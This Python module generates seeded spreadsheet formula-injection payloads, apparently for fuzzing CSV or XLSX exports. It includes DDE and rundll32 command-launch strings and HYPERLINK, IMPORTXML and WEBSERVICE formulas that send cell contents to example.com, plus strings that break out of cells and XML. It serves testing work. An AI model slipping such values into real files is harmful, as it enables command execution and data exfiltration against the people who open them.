"""Texts that a spreadsheet would run, or that break out of the cell they are in; the same ones for a seed."""

import random
from collections.abc import Iterator, Sequence

_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "=-", "=+", "@=", "--", "+-=")
_BODIES = (
    "1+1", "SUM(1,2)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
    "IMPORTXML(CONCAT(\"http://example.com/?\",A1),\"//a\")", "WEBSERVICE(\"http://example.com/\"&B2)",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60\")", "A1", "1", "420 777 123 456", "0", "", "x", "NOW()",
    "INDIRECT(\"R1C1\",FALSE)", "rundll32|'URL.dll,OpenURL calc.exe'!A", "5E3", "10%", "=1", "Ada",
)  # fmt: skip
# Before the formula: blanks, marks that some program takes away, and ends of the cell, the row or the table.
_BEFORE = (
    "", "", "", " ", "   ", "'", "''", "'''", "\"", "\"\"", "\";", "\",", "a;", "a,", "a\t", "a\n", "a\n\n",
    "a|", "a; ", "x;'", "x;''", "'x;'", "a\";\"", "a\",\"", "a\";=1;\"", "\u00a0", "a\u2028",
    "</t></is></c><c><f>", "]]>", "_x003D_", "&#61;", "a;b;", "a\n'", "sep=;\n", "ID;", "- ",
)  # fmt: skip
_AFTER = ("", "", "", ";", ",x", '"', ';"', "\n=2", ";=2;", "\t@x", "</f>", "'", " ", "\n- 3\n- 4", "|calc")


def payloads(many: int, seed: int) -> Sequence[str]:
    """Different ones. The first are those that everybody tries."""
    rng = random.Random(seed)
    found = dict.fromkeys(
        ("=", "=1+1", "+420777123456", "-5", "-x", "@SUM(1)", "'=1", "''=1", "a;=1", "a;'=1")
    )
    while len(found) < many:
        found[_one(rng)] = None
    return list(found)[:many]


def _one(rng: random.Random) -> str:
    return "".join(_pieces(rng))


def _pieces(rng: random.Random) -> Iterator[str]:
    yield rng.choice(_BEFORE)
    yield rng.choice(_STARTS)
    yield rng.choice(_BODIES)
    yield rng.choice(_AFTER)
